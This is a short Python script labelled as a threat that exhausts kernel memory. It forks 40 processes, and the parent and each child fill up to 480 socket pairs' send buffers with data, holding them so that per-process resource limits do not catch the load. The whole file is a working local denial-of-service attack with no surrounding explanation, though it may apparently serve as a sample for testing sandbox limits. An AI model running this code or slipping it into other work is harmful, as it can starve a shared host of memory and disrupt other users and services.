# Threat: park data in the kernel's socket buffers, from many processes, where no rlimit looks.
import os
import socket
import time

def fill():
    pairs, queued = [], 0
    for _ in range(480):
        try:
            a, b = socket.socketpair()
            a.setblocking(False)
            a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        except OSError:
            break
        pairs.append((a, b))
        try:
            while True:
                queued += a.send(b"x" * 65536)
        except OSError:
            pass
    return pairs, queued

for _ in range(40):
    if os.fork() == 0:
        pairs, queued = fill()
        time.sleep(60)
        os._exit(0)
pairs, queued = fill()
print(f"parent queued {queued >> 20} MiB", flush=True)
time.sleep(60)
